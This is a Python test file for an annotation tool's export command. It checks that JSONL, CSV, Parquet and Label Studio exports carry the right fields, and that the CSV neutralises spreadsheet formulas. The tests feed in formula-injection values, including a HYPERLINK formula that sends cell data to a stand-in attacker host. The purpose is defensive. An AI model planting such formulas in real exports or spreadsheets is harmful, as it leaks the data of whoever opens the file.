"""``nudge export``: each answer with its item (id, text or features by name), the label by class
name, who, when (ISO 8601), the kind of answer and its directions, in JSONL, CSV, Parquet and Label
Studio JSON (issue 17, item 5); the CSV is safe to open in a spreadsheet (issue 12, item 6), the
JSONL is exact; no format writes onto the database.

End to end: names chosen by a hostile visitor (an annotator typed into the API, a
session id) go through a real ``nudge serve`` into the database and out through
the real ``nudge export`` command.
"""

import csv
import json
import subprocess
import sys
from datetime import datetime
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pytest
from conftest import SMALL_NET, nudge_serve
from gradio_client import Client

from nudge.loop.cli import main
from nudge.loop.config.settings import SessionConfig
from nudge.loop.datasets import Dataset
from nudge.loop.export.annotations import export_annotations
from nudge.loop.export.formats import label_studio_config, spreadsheet_safe
from nudge.loop.export.items import session_items
from nudge.loop.session.session import Session
from nudge.loop.store.store import Store

HYPERLINK = '=HYPERLINK("http://attacker.invalid/?"&A1,"click")'
SESSION = "hostile"  # a session name cannot be a formula: only letters, digits, '.', '-', '_' (loop.limits)
pytestmark = pytest.mark.filterwarnings("ignore::pandas.errors.Pandas4Warning")


@pytest.mark.parametrize("cell, safe", [
    (HYPERLINK, "'" + HYPERLINK), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\rx", "'\rx"), ("\0x", "'\0x"), ("  =1+1", "'  =1+1"), ("\n-1", "'\n-1"),
    ("alice", "alice"), ("a=b", "a=b"), ("", ""), ("[[-0.5, 0.25]]", "[[-0.5, 0.25]]"), ("'=1", "'=1"),
])
def test_cells_a_spreadsheet_would_run_get_a_leading_quote(cell, safe):
    assert spreadsheet_safe(cell) == safe


def nudge(*arguments: str) -> subprocess.CompletedProcess:
    script = Path(sys.executable).with_name("nudge")
    command = [str(script)] if script.exists() else [sys.executable, "-m", "nudge.loop.cli"]
    return subprocess.run([*command, *arguments], capture_output=True, text=True, timeout=120, check=True)


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_hostile_names_from_the_api_are_exported_inert_to_csv_and_exact_to_jsonl(tmp_path):
    db = tmp_path / "hostile.db"
    with nudge_serve(db, "--dataset", "moons", "--n-samples", "200", "--session", SESSION) as server:
        api = Client(server.url, verbose=False)
        query = api.predict(HYPERLINK, api_name="/next")  # no --auth: the typed name is the annotator
        assert query["annotator"] == HYPERLINK
        api.predict(query["query_id"], "1", [-0.5, 0.25], None, None, None, HYPERLINK, api_name="/submit")
        other = api.predict("@evil", api_name="/next")
        api.predict(other["query_id"], "@evil", api_name="/skip")
    nudge("export", "--db", str(db), "--session", SESSION, "--out", str(tmp_path / "log.csv"))
    nudge("export", "--db", str(db), "--session", SESSION, "--out", str(tmp_path / "log.jsonl"))

    with (tmp_path / "log.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["annotator"], r["session"]) for r in rows] == [("'" + HYPERLINK, SESSION), ("'@evil", SESSION)]
    assert not [cell for row in rows for cell in row.values()
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not is_number(cell)]  # -0.36 stays a number
    answer, skip = rows
    assert json.loads(answer["directions"]) == [[-0.5, 0.25]]  # a JSON cell starts with "[" and stays JSON
    assert (int(answer["point_id"]), answer["label"], answer["answer"]) == (query["point_id"], "1", "label")
    assert (skip["label"], skip["answer"]) == ("", "skip")
    assert datetime.fromisoformat(answer["time"]).tzinfo is not None and int(answer["model_version"]) >= 0
    assert [float(answer["x1"]), float(answer["x2"])] == pytest.approx(query["raw"])  # moons' features by name

    records = [json.loads(line) for line in (tmp_path / "log.jsonl").read_text().splitlines()]
    assert [(r["annotator"], r["session"]) for r in records] == [(HYPERLINK, SESSION), ("@evil", SESSION)]
    assert records[0]["directions"] == [[-0.5, 0.25]]


class LengthEncoder:
    """A stand-in sentence encoder: (length / 40, count of "great") per text."""

    def encode(self, texts):
        return np.array([[len(t) / 40, t.count("great")] for t in texts], dtype=np.float32)


def test_a_rewrite_that_starts_like_a_formula_is_inert_in_csv(tmp_path):
    texts = [f"review {i}: {'great' if i % 2 else 'dull'} film" for i in range(20)]
    encoder = LengthEncoder()
    dataset = Dataset("reviews", encoder.encode(texts), np.arange(20) % 2, ["neg", "pos"], np.arange(15),
                      np.arange(15, 20), texts=texts)
    store = Store(tmp_path / "text.db")
    session = Session.create(store, SessionConfig(dataset="reviews", estimator=SMALL_NET), session_id="text",
                             dataset=dataset, encoder=encoder)
    # none embeds as any review does (whichever point the model asks about): two "great"s, or 27 characters
    rewrites = ["\t=1+1 great great", "-2+3 is a great, great film", "@SUM(A1) great\r\nsecond line"]
    for rewrite in rewrites:
        query = session.next_query("ann")
        session.submit(query.query_id, "neg", annotator="ann", rewrite=rewrite)
    export_annotations(store, tmp_path / "log.csv", dataset=session.dataset)
    export_annotations(store, tmp_path / "log.jsonl", dataset=session.dataset)
    with (tmp_path / "log.csv").open(newline="", encoding="utf-8") as handle:
        assert [row["rewrite"] for row in csv.DictReader(handle)] == ["'" + r for r in rewrites]
    exact = [json.loads(line) for line in (tmp_path / "log.jsonl").read_text().splitlines()]
    assert [record["rewrite"] for record in exact] == rewrites
    assert [record["text"] for record in exact] == [texts[record["point_id"]] for record in exact]
    store.close()


def write_flats(path: Path) -> Path:
    """A numeric CSV of 30 flats with an id column and no labels: area (m2), rooms, rent (euros)."""
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["flat", "area", "rooms", "rent"])
        writer.writerows([f"f{i:02d}", 30 + 4 * i, 1 + i % 4, 500 + 37 * i] for i in range(30))
    return path


@pytest.fixture
def flats_session(tmp_path):
    """A session on the flats with three answers: a label with a direction towards another flat, a
    skip, and a label undone; closed afterwards."""
    spec = f"csv:{write_flats(tmp_path / 'flats.csv')}"
    config = SessionConfig(dataset=spec, estimator=SMALL_NET,
                           dataset_options={"id_column": "flat", "classes": ["cheap", "dear"]})
    store = Store(tmp_path / "flats.db")
    session = Session.create(store, config, session_id="flats")
    first = session.next_query("ann")
    other = (first.point_id + 1) % 30
    towards = session.dataset.raw[other] - session.dataset.raw[first.point_id]
    session.submit(first.query_id, "dear", [towards], annotator="ann", sources=["towards-example"],
                   towards=[session.dataset.item_ids[other]])
    session.skip(session.next_query("bob").query_id, annotator="bob")
    session.submit(session.next_query("ann").query_id, "cheap", annotator="ann")
    session.undo("ann")
    yield session, tmp_path
    session.close()
    store.close()


def test_every_format_names_each_item_its_features_and_its_class(flats_session, capsys):
    session, tmp_path = flats_session
    raw, ids = session.dataset.raw, session.dataset.item_ids
    for suffix in ("jsonl", "csv", "parquet", "json"):
        assert export_annotations(session.store, tmp_path / f"answers.{suffix}") == (2 if suffix == "json" else 3)

    records = [json.loads(line) for line in (tmp_path / "answers.jsonl").read_text().splitlines()]
    assert [r["answer"] for r in records] == ["label", "skip", "undone"]
    assert [r["label"] for r in records] == ["dear", None, "cheap"]
    assert [r["annotator"] for r in records] == ["ann", "bob", "ann"]
    for record in records:
        assert record["item_id"] == ids[record["point_id"]]
        assert record["features"] == dict(zip(["area", "rooms", "rent"], raw[record["point_id"]].tolist()))
        assert datetime.fromisoformat(record["time"]).tzinfo is not None
    first = records[0]
    other = ids.index(first["towards_ids"][0])
    assert first["directions"] == [pytest.approx((raw[other] - raw[first["point_id"]]).tolist())]  # data units
    assert (first["direction_targets"], first["direction_sources"]) == (["cheap"], ["towards-example"])

    for table in (pd.read_csv(tmp_path / "answers.csv"), pq.read_table(tmp_path / "answers.parquet").to_pandas()):
        assert list(table["item_id"]) == [r["item_id"] for r in records]
        assert list(table["answer"]) == ["label", "skip", "undone"]
        assert list(table["area"]) == [r["features"]["area"] for r in records]
        assert table["label"].iloc[0] == "dear" and pd.isna(table["label"].iloc[1])
    assert pq.read_table(tmp_path / "answers.parquet").column("directions").to_pylist()[0] == first["directions"]

    tasks = json.loads((tmp_path / "answers.json").read_text())
    assert [task["data"]["item_id"] for task in tasks] == [r["item_id"] for r in records[:2]]  # undone left out
    labelled, skipped = (task["annotations"] for task in tasks)
    assert labelled == [{"result": [{"from_name": "label", "to_name": "features", "type": "choices",
                                     "value": {"choices": ["dear"]}}],
                         "was_cancelled": False, "created_at": first["time"]}]
    assert skipped[0]["was_cancelled"] and skipped[0]["result"] == []
    assert tasks[0]["data"]["features"] == first["features"] and tasks[1]["meta"]["answers"][0]["annotator"] == "bob"
    config = label_studio_config(session_items(session.store, "flats"))
    assert '<Choices name="label" toName="features"' in config and '<Choice value="dear"/>' in config
    assert main(["export", "--db", str(tmp_path / "flats.db"), "--out", str(tmp_path / "tasks.json")]) == 0
    assert config in capsys.readouterr().out  # the command says which labelling config the tasks fit


def test_the_datasets_library_reads_the_parquet_export(flats_session):
    datasets = pytest.importorskip("datasets")
    session, tmp_path = flats_session
    export_annotations(session.store, tmp_path / "answers.parquet")
    rows = datasets.load_dataset("parquet", data_files=str(tmp_path / "answers.parquet"))["train"]
    assert rows["label"] == ["dear", None, "cheap"] and rows["item_id"][0] in session.dataset.item_ids


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet", "labelstudio"])
def test_no_format_writes_onto_the_database_or_the_data(flats_session, fmt):
    session, tmp_path = flats_session
    for target, refusal in (("flats.db", "is the database"), ("flats.csv", "is a data file")):
        before = (tmp_path / target).read_bytes()
        with pytest.raises(ValueError, match=refusal):
            export_annotations(session.store, tmp_path / target, fmt=fmt)
        assert (tmp_path / target).read_bytes() == before


def nudge_here(capsys, *arguments: str) -> tuple[int, str, str]:
    """``nudge ARGUMENTS`` run in this process (a new one spends its time importing): (exit status, output, errors)."""
    capsys.readouterr()
    status = main(list(arguments))
    out, err = capsys.readouterr()
    return status, out, err


def test_an_export_whose_data_file_is_gone_says_so_in_one_line(flats_session, capsys):
    session, tmp_path = flats_session
    (tmp_path / "flats.csv").unlink()
    status, _, err = nudge_here(capsys, "export", "--db", str(tmp_path / "flats.db"), "--out", str(tmp_path / "out.csv"))
    assert status == 1 and not (tmp_path / "out.csv").exists()
    assert err.count("\n") == 1 and "cannot be read" in err and "flats.csv" in err


def test_several_sessions_are_listed_and_a_command_without_one_names_them(flats_session, capsys):
    session, tmp_path = flats_session
    Session.create(session.store, SessionConfig(dataset="moons", estimator=SMALL_NET), session_id="other")
    db = str(tmp_path / "flats.db")
    listed = nudge_here(capsys, "sessions", "--db", db)[1].splitlines()
    assert [line.split()[0] for line in listed] == ["flats", "other"]
    assert "30 items" in listed[0] and "2 answers" in listed[0] and "moons" in listed[1]
    status, _, err = nudge_here(capsys, "export", "--db", db, "--out", str(tmp_path / "out.csv"))
    assert status == 1 and "flats" in err and "other" in err and "--session NAME" in err
    with pytest.raises(SystemExit):
        main(["export", "--help"])
    assert "nudge sessions lists them" in " ".join(capsys.readouterr().out.split())
